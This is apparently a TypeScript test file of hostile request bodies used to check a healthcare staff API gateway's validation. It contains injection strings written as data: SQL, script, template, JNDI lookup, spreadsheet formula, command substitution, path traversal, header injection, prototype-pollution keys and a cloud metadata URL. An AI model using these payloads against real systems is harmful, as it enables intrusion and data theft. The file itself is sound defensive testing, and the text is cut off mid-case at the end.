// biome-ignore-all lint/suspicious/noTemplateCurlyInString: templates of other systems are what is sent here
/** What a caller can put into a body: JSON of all shapes, names, dates, identifiers, schedules, members that are not theirs. */
import type { HostileCase } from './hostile';
import { FACILITY, KEYS } from './stage';

const MALFORMED = { status: 400, code: 'malformed_request' } as const;
const INVALID = { status: 422, code: 'validation_failed' } as const;
const UNSUPPORTED = { status: 422, code: 'unsupported_field' } as const;
const CENTRO = { key: KEYS.centro, status: 200 } as const;
const SOUTH = { key: KEYS.south, status: 200 } as const;

/** Refused with these complaints, each `pointer code`. */
const bad = (name: string, json: unknown, ...errors: string[]): HostileCase => ({
  name,
  json,
  ...INVALID,
  errors,
});
const broken = (name: string, body: string | Buffer): HostileCase => ({ name, body, ...MALFORMED });
const latin = (text: string) => Buffer.from(text, 'latin1');

const SHAPES: readonly HostileCase[] = [
  bad('false', false, ' wrong_type'),
  bad('a number', 42, ' wrong_type'),
  bad('an empty text', '', ' wrong_type'),
  bad('an empty list', [], ' wrong_type'),
  bad('a list of updates', [{ status: 'active' }, { status: 'inactive' }], ' wrong_type'),
  bad('a JSON Patch', [{ op: 'replace', path: '/status', value: 'inactive' }], ' wrong_type'),
  broken('a trailing comma', '{"status":"inactive",}'),
  broken('a comma alone', '{,}'),
  broken('a line comment', '{"status":"inactive"} // done'),
  broken('Infinity', '{"status":Infinity}'),
  broken('undefined', '{"status":undefined}'),
  broken('a hexadecimal number', '{"status":0x1}'),
  broken('a leading zero', '{"status":01}'),
  broken('a plus', '{"status":+1}'),
  broken('a name without quotes', '{status:"inactive"}'),
  broken('a line break in a text', '{"role":"a\nb"}'),
  broken('a NUL in a text', '{"role":"a\0b"}'),
  broken('a tab in a text', '{"role":"a\tb"}'),
  broken('an unknown escape', '{"role":"\\x41"}'),
  broken('half an escape', '{"role":"\\u00"}'),
  broken('a text that does not end', '{"role":"abc'),
  broken('an object that does not end', '{"role":"abc"'),
  broken('two values', '{"role":"a"}{"role":"b"}'),
  broken('two byte order marks', '\ufeff\ufeff{"status":"inactive"}'),
  broken('a NUL at the end', '{"status":"inactive"}\0'),
  broken('JSON with padding', 'callback({"status":"inactive"})'),
  broken('a prefix against hijacking', ")]}',\n{}"),
  broken('UTF-16, little endian', Buffer.from('\ufeff{"status":"inactive"}', 'utf16le')),
  broken('UTF-16 without a mark', Buffer.from('{"status":"inactive"}', 'utf16le')),
  broken('an overlong slash', latin('{"role":"\xc0\xaf"}')),
  broken('an overlong NUL', latin('{"role":"\xc0\x80"}')),
  broken('a surrogate in UTF-8', latin('{"role":"\xed\xa0\x80"}')),
  broken('beyond Unicode', latin('{"role":"\xf4\x90\x80\x80"}')),
  broken('a continuation byte alone', latin('{"role":"\x80"}')),
  broken('a letter cut in half', latin('{"role":"\xc3"}')),
  broken('Latin-1', latin('{"role":"caf\xe9"}')),
  broken('33 levels', `{"name":${'['.repeat(32)}${']'.repeat(32)}}`),
  broken('100000 lists', '['.repeat(100_000)),
  broken('a member said twice', '{"status":"active","status":"inactive"}'),
  broken('a member said twice with the same value', '{"status":"inactive","status":"inactive"}'),
  broken('a member said twice, once in escapes', '{"status":"active","\\u0073tatus":"inactive"}'),
  broken('a member said twice further inside', '{"name":{"given":"A","given":"B"}}'),
  broken('a member said twice in a list', '{"availableTime":[{"daysOfWeek":["mon"],"daysOfWeek":["tue"]}]}'),
  broken('__proto__ said twice', '{"__proto__":{},"__proto__":{}}'),
  {
    name: '32 levels',
    body: `{"name":${'['.repeat(31)}${']'.repeat(31)}}`,
    ...INVALID,
    errors: ['/name wrong_type'],
  },
  {
    name: 'colons in a text are no members',
    json: { role: 'a:b:c:"d":e' },
    status: 200,
    wire: { role: 'a:b:c:"d":e' },
  },
  { name: 'blanks of all kinds around', body: '\r\n\t {"status" :\n"inactive"}\t \n', status: 200 },
  {
    name: 'escapes in a name',
    body: '{"\\u0073tatus":"inactive"}',
    status: 200,
    wire: { status: 'inactive' },
  },
  {
    name: 'escapes in a value',
    body: '{"role":"\\u0061\\/\\u00e9\\ud83d\\ude00"}',
    status: 200,
    wire: { role: 'a/é😀' },
  },
  bad('a member without a name', { '': 1 }, '/ unknown_field'),
  bad(
    'members that need escapes in a pointer',
    { 'a/b': 1, 'm~n': 2 },
    '/a~1b unknown_field',
    '/m~0n unknown_field',
  ),
  {
    name: '__proto__',
    body: '{"__proto__":{"status":"active"}}',
    ...INVALID,
    errors: [' empty', '/__proto__ unknown_field'],
  },
  {
    name: '__proto__ in a name',
    body: '{"name":{"given":"Ana","__proto__":{"family":"X"}}}',
    ...INVALID,
    errors: ['/name/__proto__ unknown_field'],
  },
  {
    name: '__proto__ in a block',
    body: '{"availableTime":[{"daysOfWeek":["mon"],"availableStartTime":"08:00","availableEndTime":"09:00","__proto__":{}}]}',
    ...INVALID,
    errors: ['/availableTime/0/__proto__ unknown_field'],
  },
  {
    name: '__proto__ in a recurrence',
    body: '{"availableTime":[{"daysOfWeek":["mon"],"availableStartTime":"08:00","availableEndTime":"09:00","recurrence":{"interval":1,"unit":"day","__proto__":1}}]}',
    ...INVALID,
    errors: ['/availableTime/0/recurrence/__proto__ unknown_field'],
  },
  bad('constructor', { constructor: { prototype: { admin: true } } }, '/constructor unknown_field'),
  bad(
    'toString and valueOf',
    { toString: 'x', valueOf: 1 },
    '/toString unknown_field',
    '/valueOf unknown_field',
  ),
  bad('hasOwnProperty', { hasOwnProperty: null }, '/hasOwnProperty unknown_field'),
  bad(
    'constructor in a specialty',
    { specialty: { code: '1', constructor: 1 } },
    '/specialty/constructor unknown_field',
  ),
  bad('length in a list of hours', { availableTime: { length: 1, 0: {} } }, '/availableTime wrong_type'),
  bad('toJSON', { role: { toJSON: 'x' } }, '/role wrong_type'),
  bad('a number where a text is meant', { role: 1 }, '/role wrong_type'),
  bad('true where a text is meant', { phone: true }, '/phone wrong_type'),
  bad('a list where a text is meant', { email: ['a@b.example'] }, '/email wrong_type'),
  bad('an object where a text is meant', { role: { $ne: null } }, '/role wrong_type'),
  bad('a text where an object is meant', { name: 'Ana' }, '/name wrong_type'),
  bad('a list where an object is meant', { period: [] }, '/period wrong_type'),
  { name: 'a number beyond a double', body: '{"role":1e999}', ...INVALID, errors: ['/role wrong_type'] },
  {
    name: 'a number of 400 digits',
    body: `{"role":${'9'.repeat(400)}}`,
    ...INVALID,
    errors: ['/role wrong_type'],
  },
  { name: 'minus zero', body: '{"role":-0}', ...INVALID, errors: ['/role wrong_type'] },
  bad('a text of 100 kB', { role: 'x'.repeat(100_000) }, '/role too_long'),
  bad('a name of 100 kB', { ['x'.repeat(100_000)]: 1 }, `/${'x'.repeat(100_000)} unknown_field`),
  bad(
    'far too many members',
    Object.fromEntries(Array.from({ length: 9000 }, (_, index) => [`m${index}`, 0])),
    ' too_long',
  ),
  bad('far too many blocks', { availableTime: Array.from({ length: 30_000 }, () => ({})) }, ' too_long'),
  bad(
    'far too many days',
    { availableTime: [{ daysOfWeek: Array.from({ length: 20_000 }, () => 'x') }] },
    ' too_long',
  ),
  {
    name: '101 complaints',
    json: Object.fromEntries(Array.from({ length: 101 }, (_, index) => [`m${index}`, 0])),
    ...INVALID,
    errors: [...Array.from({ length: 100 }, (_, index) => `/m${index} unknown_field`), ' more_errors'],
  },
  {
    name: 'one complaint inside of a long name is not repeated',
    body: `{"${'k'.repeat(40_000)}":[${'{"__proto__":0},'.repeat(2000)}0]}`,
    ...INVALID,
    errors: [`/${'k'.repeat(40_000)} unknown_field`],
  },
];

const FAMILY = 'Álvarez';
/** Names that arrive as the second text. */
const name = (what: string, given: string, arrives = given): HostileCase => ({
  name: `a name ${what}`,
  json: { name: { given } },
  ...CENTRO,
  wire: { name: arrives },
});

const NAMES: readonly HostileCase[] = [
  name('in parts is composed', 'Jose\u0301', 'José'),
  name('composed', 'José'),
  name('with marks of which one composes', 'x\u0323\u0307', '\u1e8b\u0323'),
  name('with a mark too many', 'a\u0301\u0301\u0301', 'á\u0301\u0301'),
  name('of Hangul parts', '\u1112\u1161\u11ab', '한'),
  name('with the sign of Ångström', 'A\u030ange \u212b', '\u00c5nge \u00c5'),
  name('with a dotted I', 'İsmail Iğdır'),
  name('in Greek with a final sigma', 'ΣΊΣΥΦΟΣ σίσυφος'),
  name('with a sharp s and a ligature', 'Groß ﬁn'),
  name('in Chinese', '王秀英'),
  name('in Japanese with a variant', '葛\u{e0100}城'),
  name('in Arabic', 'محمد عبد الله'),
  name('in Hebrew with points', 'שָׁלוֹם', 'שָׁלוֹם'.normalize('NFC')),
  name('in Devanagari', 'क्षितिज'),
  name('in Thai', 'สมชาย'),
  name('with the direction overridden', 'abc\u202edef\u202c'),
  name('with isolates', '\u2067אבג\u2069'),
  name('with a joiner', 'नर्\u200dस'),
  name('with a zero width blank inside', 'Ana\u200bMaria'),
  name('with a soft hyphen', 'Ana\u00adMaria'),
  name('of a family', '👩\u200d⚕\ufe0f'),
  name('of a flag', '🇦🇷'),
  name('of 200 astral letters is 400 code units', '𝒜'.repeat(100)),
  name('with an apostrophe', "D'Angelo O’Neill"),
  name('that reads like SQL', "Robert'); DROP TABLE staff;--"),
  name('that reads like markup', '<script>alert(1)</script>'),
  name('that reads like a template', '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}'),
  name('that reads like a lookup', '${jndi:ldap://x.example/a}'),
  name('that reads like a formula', '=HYPERLINK("http://x.example";"y")'),
  name('that reads like a command', '`id` $(id) | id; id'),
  name('that reads like a path', '../../../etc/passwd'),
  name('that reads like an entity', '&lt;&#x41;&amp;'),
  name('with percent signs', '%s%n%00%0d%0a'),
  bad('a name with a line break', { name: { given: 'Ana\r\nX-Injected: 1' } }, '/name/given invalid_format'),
  bad('a name with a NUL', { name: { given: 'Ana\0Maria' } }, '/name/given invalid_format'),
  bad(
    'a name with a control character',
    { name: { given: 'Ana\u0007\u001b[31m' } },
    '/name/given invalid_format',
  ),
  bad('a name with half a pair', { name: { given: 'Ana\ud800' } }, '/name/given invalid_format'),
  bad(
    'a name with a pair the wrong way round',
    { name: { given: '\udc00\ud800' } },
    '/name/given invalid_format',
  ),
  name('with what is no character', 'Ana\uffff\ufdd0'),
  name('with the mark of what cannot be read', 'Ana\ufffd'),
  name('that reads like nothing', 'null'),
  name('that reads like a number', '1e5'),
  name('that reads like true', 'true'),
  name('with blanks around', ' \t\u00a0\u3000Ana \n', 'Ana'),
  name('with a byte order mark in front', '\ufeffAna', 'Ana'),
  name('with a line separator inside', 'Ana\u2028Maria'),
  name('of 200 letters', 'ñ'.repeat(200)),
  name('of 200 letters in parts', 'n\u0303'.repeat(200), 'ñ'.repeat(200)),
  bad('a name of 201 letters', { name: { given: 'ñ'.repeat(201) } }, '/name/given too_long'),
  bad(
    'a name of 101 astral letters, which are 202 code units',
    { name: { given: '𝒜'.repeat(101) } },
    '/name/given too_long',
  ),
  bad(
    'a name of 30000 marks',
    { name: { given: `a${'\u0301\u0316'.repeat(15_000)}` } },
    '/name/given too_long',
  ),
  bad('a name of blanks', { name: { given: ' \u3000\u00a0' } }, '/name/given too_short'),
  bad(
    'a name with the last of the control characters',
    { name: { given: 'Ana\u007f' } },
    '/name/given invalid_format',
  ),
  bad('a name with a tab', { name: { given: 'Ana\tMaria' } }, '/name/given invalid_format'),
  bad('a name of zero width blanks', { name: { given: '\u200b\u200d\u2060' } }, '/name/given too_short'),
  bad(
    'a name of a soft hyphen and a direction',
    { name: { given: '\u00ad\u202e' } },
    '/name/given too_short',
  ),
  bad('a name of fillers', { name: { given: '\u3164\u115f\uffa0\u2800' } }, '/name/given too_short'),
  bad('a role over two lines', { role: 'a\r\nb' }, '/role invalid_format'),
  bad('a role with half a pair', { role: 'doctor\udc00' }, '/role invalid_format'),
  bad('a role with an escape', { role: 'doctor\u001b[31m' }, '/role invalid_format'),
  bad('a code with a NUL', { specialty: { code: '1\0' } }, '/specialty/code invalid_format'),
  bad(
    'a display of nothing visible',
    { specialty: { code: '1', display: '\ufe0f\u200b' } },
    '/specialty/display too_short',
  ),
  bad(
    'an organization with a header behind it',
    { organizationId: 'org_1\r\nx: y' },
    '/organizationId invalid_format',
  ),
  bad('a location of nothing visible', { locationId: '\u2060' }, '/locationId too_short'),
  bad('an e-mail address with half a pair', { email: 'a\ud800@clinic.example' }, '/email invalid_format'),
  bad(
    'an e-mail address with a control character',
    { email: 'a\u007f@clinic.example' },
    '/email invalid_format',
  ),
  bad('an address with a NUL', { address: { text: 'Calle\0 1' } }, '/address/text invalid_format'),
  bad('an address with half a pair', { address: { text: 'Calle \ud83d' } }, '/address/text invalid_format'),
  bad('an address of nothing visible', { address: { text: '\u200b\n\u200b' } }, '/address/text too_short'),
  bad('an empty name', { name: { family: '' } }, '/name/family too_short'),
  bad('a name without members', { name: {} }, '/name empty'),
  {
    name: 'an address over several lines',
    json: { address: { text: `Calle 1\n2º\t"A" ${FAMILY}` } },
    ...CENTRO,
    wire: { address: `Calle 1\n2º\t"A" ${FAMILY}` },
  },
  {
    name: 'an address of 500 letters',
    json: { address: { text: '道'.repeat(500) } },
    ...CENTRO,
    wire: { address: '道'.repeat(500) },
  },
];

const birth = (value: unknown, code = 'invalid_format') =>
  bad(`the date ${String(value).slice(0, 40)}`, { birthDate: value }, `/birthDate ${code}`);
const born = (value: string, arrives: string): HostileCase => ({
  name: `the date ${value}`,
  json: { birthDate: value },
  ...CENTRO,
  wire: { birthdate: arrives },
});

const DATES: readonly HostileCase[] = [
  born('2000-02-29', '2000-02-29'),
  born('1900-02-28', '1900-02-28'),
  born('1985-03-16T23:59:59-12:00', '1985-03-16'),
  born('1985-03-16t00:00:00.123456789z', '1985-03-16'),
  born('1985-03-16 10:00', '1985-03-16'),
  born(' 1985-03-16\n', '1985-03-16'),
  birth('1900-02-29'),
  birth('2023-02-29'),
  birth('2023-04-31'),
  birth('2023-00-10'),
  birth('2023-13-01'),
  birth('2023-01-00'),
  birth('2023-01-32'),
  birth('0000-01-01'),
  birth('0000-02-29T10:00:00Z'),
  birth('99999-01-01'),
  birth('+275760-09-13'),
  birth('-000001-01-01'),
  birth('20000101'),
  birth('2000-1-1'),
  birth('2000-W01-1'),
  birth('2000-001'),
  birth('01/02/2000'),
  birth('2000-01-01T24:00:00'),
  birth('2000-01-01T10:00:61'),
  birth('2000-01-01T10'),
  birth('2000-01-01T10:00:00+5'),
  birth('2000-01-01; DROP TABLE x'),
  birth('２０００-０１-０１'),
  birth('٢٠٠٠-٠١-٠١'),
  birth('2000\u201001\u201001'),
  birth('2000-01-01\u0000'),
  birth('yesterday'),
  birth('', 'too_short'),
  birth(0, 'wrong_type'),
  birth(946684800000, 'wrong_type'),
  birth('9999-12-31', 'not_in_past'),
  birth('2199-01-01', 'not_in_past'),
  bad(
    'a period the wrong way round',
    { period: { start: '2024-01-02', end: '2024-01-01' } },
    '/period/end end_before_start',
  ),
  bad('a period of text', { period: '2024' }, '/period wrong_type'),
  bad(
    'a period with a bound too many',
    { period: { start: '2024-01-01', until: '2025-01-01' } },
    '/period/until unknown_field',
  ),
  bad('a period without bounds', { period: {} }, '/period empty'),
  {
    name: 'a period that ends before the stored start',
    json: { period: { end: '0001-01-01' } },
    ...INVALID,
    errors: ['/period/end end_before_start'],
    reachesVendor: true,
  },
  {
    name: 'a period of one day',
    json: { period: { start: '2024-02-29', end: '2024-02-29' } },
    status: 200,
    wire: { period: { start: '2024-02-29', end: '2024-02-29' } },
  },
];

const dni = (value: string, arrives: string): HostileCase => ({
  name: `the national id ${value}`,
  json: { nationalId: value },
  ...CENTRO,
  wire: { dni: arrives },
});
/** The vendor's numeric column would make another number of it. */
const altered = (value: string): HostileCase => ({
  name: `the national id ${value}`,
  json: { nationalId: value },
  ...CENTRO,
  status: 422,
  code: 'unsupported_field',
  errors: ['/nationalId unsupported_field'],
});
const noDni = (value: unknown, code = 'invalid_format') =>
  bad(`the national id ${String(value).slice(0, 40)}`, { nationalId: value }, `/nationalId ${code}`);

const IDENTIFIERS: readonly HostileCase[] = [
  dni('00012345', '00012345'),
  dni('0000000', '0000000'),
  dni('00.012.345', '00012345'),
  dni(' 12 345 678 ', '12345678'),
  dni('12-345-678', '12345678'),
  dni('12\u00a0345\u2009678', '12345678'),
  altered('1234567e2'),
  dni('0x1234567', '0x1234567'),
  dni('x1234567Z', 'x1234567Z'),
  altered('99999999999999999999'),
  noDni('123456'),
  noDni('123456789012345678901'),
  noDni('１２３４５６７８'),
  noDni('١٢٣٤٥٦٧٨'),
  noDni('12345678٩'),
  noDni('1234567é'),
  noDni('-----------', 'too_short'),
  noDni('12345678; --'),
  noDni('12345678\u200b'),
  noDni('12345678/9'),
  noDni(12345678, 'wrong_type'),
  noDni('', 'too_short'),
  {
    name: 'the phone +54 11 4567-8902',
    json: { phone: '+54 11 4567-8902' },
    ...CENTRO,
    wire: { phone: '+54 11 4567-8902' },
  },
  { name: 'the phone 0000000000', json: { phone: '0000000000' }, ...CENTRO, wire: { phone: '0000000000' } },
  bad('a phone of signs', { phone: '+- +- +- +-' }, '/phone invalid_format'),
  bad('a phone of one digit', { phone: '----------1' }, '/phone invalid_format'),
  bad('a phone of five digits', { phone: '1 2 3 4 5 -----' }, '/phone invalid_format'),
  {
    name: 'a phone of six digits',
    json: { phone: '+ 12-34-56' },
    ...CENTRO,
    wire: { phone: '+ 12-34-56' },
  },
  bad('a phone with letters', { phone: '+54 11 CALL-ME' }, '/phone invalid_format'),
  bad('a phone in full width', { phone: '＋５４１１４５６７８９０１' }, '/phone invalid_format'),
  bad('a phone with a line break', { phone: '+54 11 4567\r\n8901' }, '/phone invalid_format'),
  bad('a phone of 21', { phone: '123456789012345678901' }, '/phone invalid_format'),
  {
    name: 'an e-mail address with a plus',
    json: { email: 'ana+x@clinic.example' },
    ...CENTRO,
    wire: { email: 'ana+x@clinic.example' },
  },
  bad(
    'an e-mail address with a line break',
    { email: 'ana@clinic.example\r\nBcc: all@x.example' },
    '/email invalid_format',
  ),
  bad('two e-mail addresses', { email: 'a@x.example,b@x.example' }, '/email invalid_format'),
  bad('an e-mail address with a name', { email: 'Ana <ana@x.example>' }, '/email invalid_format'),
  bad('an e-mail address without a domain', { email: 'ana@' }, '/email invalid_format'),
  bad(
    'an e-mail address of 300',
    { email: `${'a'.repeat(300)}@x.example` },
    '/email invalid_format',
    '/email too_long',
  ),
  {
    name: 'the status in capitals and blanks',
    json: { status: ' InActive\n' },
    status: 200,
    wire: { status: 'inactive' },
  },
  bad('a status with a dotted I', { status: 'actİve' }, '/status invalid_value'),
  bad('a status with a look-alike', { status: 'аctive' }, '/status invalid_value'),
  bad('a status with a zero width blank', { status: 'active\u200b' }, '/status invalid_value'),
  bad('a status in full width', { status: 'ａｃｔｉｖｅ' }, '/status invalid_value'),
  bad('true for a status', { status: true }, '/status invalid_value'),
  bad('an inherited status', { status: 'constructor' }, '/status invalid_value'),
  bad('a gender in the vendor’s words', { gender: 'Masculino' }, '/gender invalid_value'),
];

type Block = Readonly<Record<string, unknown>>;
const at = (daysOfWeek: unknown, from: unknown, to: unknown, more: Block = {}): Block => ({
  daysOfWeek,
  availableStartTime: from,
  availableEndTime: to,
  ...more,
});
const week = (what: string, blocks: unknown, ...errors: string[]) =>
  bad(`hours ${what}`, { availableTime: blocks }, ...errors);
const works = (what: string, blocks: unknown, hours: unknown): HostileCase => ({
  name: `hours ${what}`,
  json: { availableTime: blocks },
  ...SOUTH,
  wire: { hours },
});
const day = (word: string, start: string, end: string) => ({
  day: word,
  shifts: [{ start: `T${start}`, end: `T${end}` }],
});
const every = (count: number) =>
  Array.from({ length: count }, (_, index) => {
    const minute = (offset: number) =>
      `${String(Math.floor((index * 7 + offset) / 60)).padStart(2, '0')}:${String((index * 7 + offset) % 60).padStart(2, '0')}`;
    return at(['mon'], minute(0), minute(5));
  });

const SCHEDULES: readonly HostileCase[] = [
  week(
    'with half a pair and a NUL in texts',
    [
      at(['mon'], '08:00', '09:00', {
        locationId: 'centro\ud800',
        recurrence: { interval: 1, unit: 'day', description: 'a\0' },
      }),
    ],
    '/availableTime/0/locationId invalid_format',
    '/availableTime/0/recurrence/description invalid_format',
  ),
  week(
    'from the year 0000',
    [at(['mon'], '08:00', '09:00', { period: { start: '0000-12-31' } })],
    '/availableTime/0/period/start invalid_format',
  ),
  works(
    'in all spellings of a day',
    [at(['Monday', 'TUE', 'wed', ' thursday '], '8:00', 'T09:00:00')],
    ['Monday', 'Tuesday', 'Wednesday', 'Thursday'].map((word) => day(word, '08:00:00', '09:00:00')),
  ),
  works(
    'with a day said three times',
    [at(['mon', 'Monday', 'MON'], '08:00', '09:00')],
    [day('Monday', '08:00:00', '09:00:00')],
  ),
  works(
    'that touch',
    [at(['mon'], '09:00', '10:00'), at(['mon'], '08:00', '09:00')],
    [
      {
        day: 'Monday',
        shifts: [
          { start: 'T08:00:00', end: 'T09:00:00' },
          { start: 'T09:00:00', end: 'T10:00:00' },
        ],
      },
    ],
  ),
  works(
    'through the hour that a clock change skips',
    [at(['sun'], '02:00', '03:00')],
    [day('Sunday', '02:00:00', '03:00:00')],
  ),
  works(
    'of a whole day but a second',
    [at(['sat'], '00:00', '23:59:59')],
    [day('Saturday', '00:00:00', '23:59:59')],
  ),
  works('of one second', [at(['fri'], '00:00:00', '00:00:01')], [day('Friday', '00:00:00', '00:00:01')]),
  works('of 200 blocks', every(200), [{ day: 'Monday', shifts: expect.any(Array) }]),
  works('without blocks', [], []),
  works('cleared', null, []),
  works(
    'at a configured place',
    [at(['mon'], '08:00', '09:00', { locationId: 'centro' })],
    [{ day: 'Monday', shifts: [{ start: 'T08:00:00', end: 'T09:00:00', facility_id: FACILITY }] }],
  ),
  week('of 201 blocks', every(201), '/availableTime too_long'),
  week(
    'that overlap by a second',
    [at(['mon'], '08:00', '09:00:01'), at(['mon'], '09:00', '10:00')],
    '/availableTime/1 overlap',
  ),
  week(
    'that overlap by a minute on one of many days',
    [at(['mon', 'tue'], '08:00', '09:01'), at(['tue', 'wed'], '09:00', '10:00')],
    '/availableTime/1 overlap',
  ),
  week(
    'said twice',
    [at(['mon'], '08:00', '09:00'), at(['Monday'], '8:00', '9:00')],
    '/availableTime/1 overlap',
  ),
  week(
    'of which one holds the other',
    [at(['mon'], '08:00', '18:00'), at(['mon'], '09:00', '10:00')],
    '/availableTime/1 overlap',
  ),
  week(
    'that end as they start',
    [at(['mon'], '08:00', '08:00')],
    '/availableTime/0/availableEndTime end_before_start',
  ),
  week('over night', [at(['mon'], '22:00', '06:00')], '/availableTime/0/availableEndTime end_before_start'),
  week('until 24:00', [at(['mon'], '22:00', '24:00')], '/availableTime/0/availableEndTime invalid_format'),
  week('from 24:00', [at(['mon'], '24:00', '23:00')], '/availableTime/0/availableStartTime invalid_format'),
  week(
    'with a second 60',
    [at(['mon'], '08:00:60', '09:00')],
    '/availableTime/0/availableStartTime invalid_format',
  ),
  week(
    'with a zone',
    [at(['mon'], '08:00Z', '09:00+02:00')],
    '/availableTime/0/availableStartTime invalid_format',
    '/availableTime/0/availableEndTime invalid_format',
  ),
  week(
    'of twelve hours',
    [at(['mon'], '8 am', '5:00 PM')],
    '/availableTime/0/availableStartTime invalid_format',
    '/availableTime/0/availableEndTime invalid_format',
  ),
  week(
    'in full width',
    [at(['mon'], '０８:００', '09:00')],
    '/availableTime/0/availableStartTime invalid_format',
  ),
  week(
    'of negative times',
    [at(['mon'], '-1:00', '09:00')],
    '/availableTime/0/availableStartTime invalid_format',
  ),
  week(
    'of numbers',
    [at(['mon'], 8, 9)],
    '/availableTime/0/availableStartTime wrong_type',
    '/availableTime/0/availableEndTime wrong_type',
  ),
  week('on no day', [at([], '08:00', '09:00')], '/availableTime/0/daysOfWeek empty'),
  week(
    'on a day that is none',
    [at(['mon', 'lunes'], '08:00', '09:00')],
    '/availableTime/0/daysOfWeek/1 invalid_value',
  ),
  week(
    'on an inherited day',
    [at(['constructor'], '08:00', '09:00')],
    '/availableTime/0/daysOfWeek/0 invalid_value',
  ),
  week('on a day as text', [at('mon', '08:00', '09:00')], '/availableTime/0/daysOfWeek wrong_type'),
  week('on a day as a number', [at([1], '08:00', '09:00')], '/availableTime/0/daysOfWeek/0 invalid_value'),
  week(
    'on a day of a list',
    [at([['mon']], '08:00', '09:00')],
    '/availableTime/0/daysOfWeek/0 invalid_value',
  ),
  week('of null', [null], '/availableTime/0 wrong_type'),
  week('of null and a block', [null, at(['mon'], '08:00', '09:00')], '/availableTime/0 wrong_type'),
  week('of lists', [[], []], '/availableTime/0 wrong_type', '/availableTime/1 wrong_type'),
  week(
    'with a place of null',
    [at(['mon'], '08:00', '09:00', { locationId: null })],
    '/availableTime/0/locationId wrong_type',
  ),
  week(
    'with a period of null',
    [at(['mon'], '08:00', '09:00', { period: null })],
    '/availableTime/0/period wrong_type',
  ),
  week(
    'with a bound of null',
    [at(['mon'], '08:00', '09:00', { period: { start: null } })],
    '/availableTime/0/period/start wrong_type',
  ),
  week(
    'with an empty period',
    [at(['mon'], '08:00', '09:00', { period: {} })],
    '/availableTime/0/period empty',
  ),
  week(
    'with a recurrence of null',
    [at(['mon'], '08:00', '09:00', { recurrence: null })],
    '/availableTime/0/recurrence wrong_type',
  ),
  week(
    'with an empty recurrence',
    [at(['mon'], '08:00', '09:00', { recurrence: {} })],
    '/availableTime/0/recurrence/interval required',
    '/availableTime/0/recurrence/unit required',
  ),
  ...[0, -1, 1001, 1.5, 1e300].map((interval) =>
    week(
      `with a recurrence of ${interval}`,
      [at(['mon'], '08:00', '09:00', { recurrence: { interval, unit: 'day' } })],
      `/availableTime/0/recurrence/interval invalid_value`,
    ),
  ),
  week(
    'with a recurrence of text',
    [at(['mon'], '08:00', '09:00', { recurrence: { interval: '1', unit: 'day' } })],
    '/availableTime/0/recurrence/interval wrong_type',
  ),
  week(
    'with a recurrence of years',
    [at(['mon'], '08:00', '09:00', { recurrence: { interval: 1, unit: 'year' } })],
    '/availableTime/0/recurrence/unit invalid_value',
  ),
  week(
    'with a recurrence the wrong way round',
    [
      at(['mon'], '08:00', '09:00', {
        recurrence: { interval: 1, unit: 'day', start: '2024-02-02', end: '2024-02-01' },
      }),
    ],
    '/availableTime/0/recurrence/end end_before_start',
  ),
  week('as an object', {}, '/availableTime wrong_type'),
  week('as text', 'mon 9-5', '/availableTime wrong_type'),
  {
    name: 'hours repeated in a unit that the vendor has no word for',
    json: { availableTime: [at(['mon'], '08:00', '09:00', { recurrence: { interval: 1, unit: 'week' } })] },
    key: KEYS.south,
    ...UNSUPPORTED,
    errors: ['/availableTime/0/recurrence/unit unsupported_field'],
  },
];

/** Members of the vendors' own records, of the gateway's answers, and of what other systems would take. */
const FOREIGN = [
  'vendorRecordId',
  'clinic',
  'vendor',
  'meta',
  'data',
  'scopes',
  'receipt',
  'requestId',
  'caller',
  'tenant',
  'dni',
  'state',
  'specialityID',
  'surname',
  'birthdate',
  'active',
  'hours',
  'telecom',
  'practitionerId',
  'hide_in_availability',
  'createdAt',
  'updatedAt',
  'resourceType',
  'password',
  'isAdmin',
  '$set',
  '$where',
  'provider_id',
];

const MASS_ASSIGNMENT: readonly HostileCase[] = [
  bad('the id', { id: 'st-2' }, '/id read_only'),
  bad('the id beside a change', { id: 'st-1', status: 'inactive' }, '/id read_only'),
  ...FOREIGN.map((member) =>
    bad(`the member ${member}`, { status: 'inactive', [member]: 'x' }, `/${member} unknown_field`),
  ),
  bad('an id in a name', { name: { given: 'Ana', id: '1' } }, '/name/id unknown_field'),
  bad('a vendor’s name in a name', { name: { surname: 'X', family: 'Y' } }, '/name/surname unknown_field'),
  bad(
    'a facility in a block',
    { availableTime: [at(['mon'], '08:00', '09:00', { facility_id: FACILITY })] },
    '/availableTime/0/facility_id unknown_field',
  ),
  bad(
    'the vendor’s recurrence in a block',
    { availableTime: [at(['mon'], '08:00', '09:00', { set_recur: {} })] },
    '/availableTime/0/set_recur unknown_field',
  ),
  bad(
    'an extension in a specialty',
    { specialty: { code: '1', extension: [] } },
    '/specialty/extension unknown_field',
  ),
  bad('a member of two levels in one name', { 'name.given': 'Ana' }, '/name.given unknown_field'),
  bad('a pointer for a name', { '/name/given': 'Ana' }, '/~1name~1given unknown_field'),
  bad(
    'names in other cases',
    { Status: 'active', STATUS: 'active' },
    '/Status unknown_field',
    '/STATUS unknown_field',
  ),
  bad('a name with a blank', { 'status ': 'active' }, '/status  unknown_field'),
  bad('a name with a zero width blank', { 'status\u200b': 'active' }, '/status\u200b unknown_field'),
  {
    name: 'what goes to ClinikAPI holds no other member',
    json: { status: 'inactive' },
    status: 200,
    wire: { status: 'inactive' },
    without: ['id', 'role', 'meta'],
  },
  {
    name: 'what goes to Vitalis holds no stamp',
    json: { name: { given: 'Ana' } },
    ...CENTRO,
    wire: { name: 'Ana' },
    without: ['id', 'createdAt', 'updatedAt'],
  },
];

const special = (code: unknown): HostileCase => ({
  name: `the specialty code ${String(code).slice(0, 40)}`,
  json: { specialty: { code } },
  key: KEYS.centro,
  status: 422,
  code: 'unmapped_code',
  errors: ['/specialty/code unmapped_code'],
});

const VALUES: readonly HostileCase[] = [
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '1',
    '2',
    '394579002 OR 1=1',
    '../394579002',
    '39457900２',
    '394579002\u200b',
  ].map(special),
  ...[
    '__proto__',
    'constructor',
    '../org_1',
    'http://169.254.169.254/',
    'org_1?x=1',
    'org_1#x',
    'org/1',
    'a b',
  ].map(
    (organizationId): HostileCase => ({
      name: `the organization ${JSON.stringify(organizationId)}, which is the vendor’s to judge`,
      json: { organizationId },
      status: /^[\w.-]+$/.test(organizationId) ? 200 : 422,
      ...(/^[\w.-]+$/.test(organizationId)
        ? { wire: { organizationId } }
        : {
            code: 'vendor_rejected',
            errors: ['/organizationId rejected_by_vendor'],
            reachesVendor: true as const,
